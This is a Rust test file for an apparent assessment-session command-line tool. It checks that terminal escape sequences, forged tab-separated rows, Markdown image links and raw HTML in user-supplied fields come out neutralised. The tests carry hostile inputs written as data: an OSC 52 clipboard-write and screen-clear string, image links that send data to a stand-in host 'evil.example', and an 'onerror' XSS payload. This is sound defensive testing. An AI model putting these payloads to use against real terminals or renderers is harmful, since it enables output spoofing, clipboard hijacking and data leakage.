//! Output that carries attacks: titles, names and notes holding terminal escapes (OSC 52
//! clipboard writes, screen clears, C1 controls) or line breaks reach no terminal raw from any
//! command, `list` rows cannot be forged, and Markdown reports never load images or raw HTML.

mod support;

use std::path::PathBuf;

use assess::session::{load_session, model_for, save_session};
use support::Home;

const HOSTILE: &str = "Evil\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{9b}31m\nforged\trow";

fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    assert!(
        !bytes.contains(&0x1b) && !bytes.contains(&0x07) && !text.contains('\u{9b}'),
        "{what} sent a control character: {text:?}"
    );
}

#[test]
fn no_command_prints_a_control_character_and_list_rows_stay_rows() {
    let home = Home::new();
    let out = home.run(&["--as", HOSTILE, "new", "--title", HOSTILE, "--no-open"]);
    assert!(out.status.success(), "{out:?}");
    let path = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
    let mut session = load_session(&path).expect("load");
    let requirement = model_for(&session).expect("model").index.requirements[0]
        .id
        .clone();
    let note = format!("{HOSTILE} ![x](http://evil.example/?org=secret) <img src=http://x>");
    session
        .set_note(&requirement, &note, HOSTILE)
        .expect("note");
    save_session(&path, &session).expect("save");
    let spec = path.display().to_string();
    for args in [
        vec!["list"],
        vec!["summary", &spec],
        vec!["log", &spec],
        vec!["--as", HOSTILE, "finalize", &spec],
        vec!["verify", &spec],
        vec![
            "--as",
            "Not an assessor \u{1b}[2J",
            "reopen",
            &spec,
            "--reason",
            "x",
        ],
        vec!["report", &spec, "--format", "md", "-o", "-"],
        vec!["report", &spec, "--format", "csv", "-o", "-"],
    ] {
        let out = home.run(&args);
        assert_inert(&args.join(" "), &out.stdout);
        assert_inert(&args.join(" "), &out.stderr);
    }
    let list = home.run(&["list"]);
    let text = String::from_utf8_lossy(&list.stdout);
    assert_eq!(text.lines().count(), 1, "one row per session: {text}");
    assert_eq!(text.trim_end().split('\t').count(), 6, "{text}");
    assert!(text.contains("\\nforged\\trow"), "{text}");

    let json = home.run(&["summary", "--json", &spec]);
    let parsed: serde_json::Value = serde_json::from_slice(&json.stdout).expect("still JSON");
    assert!(parsed["title"].as_str().unwrap_or("").contains("\u{1b}"));
}

#[test]
fn markdown_reports_neither_fetch_images_nor_carry_raw_html() {
    let home = Home::new();
    let out = home.run(&["new", "--title", "Md", "--no-open"]);
    let path = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
    let mut session = load_session(&path).expect("load");
    let requirement = model_for(&session).expect("model").index.requirements[0]
        .id
        .clone();
    session
        .set_note(
            &requirement,
            "see ![chart](http://evil.example/p.png?org=Globex)\n<img src=x onerror=alert(1)>",
            "tester",
        )
        .expect("note");
    save_session(&path, &session).expect("save");
    let out = home.run(&[
        "report",
        &path.display().to_string(),
        "--format",
        "md",
        "-o",
        "-",
    ]);
    let md = String::from_utf8_lossy(&out.stdout);
    assert!(md.contains("evil.example"), "the text is kept");
    assert!(!md.contains("![chart]"), "no image: {md}");
    assert!(!md.contains("<img"), "no raw HTML");
}
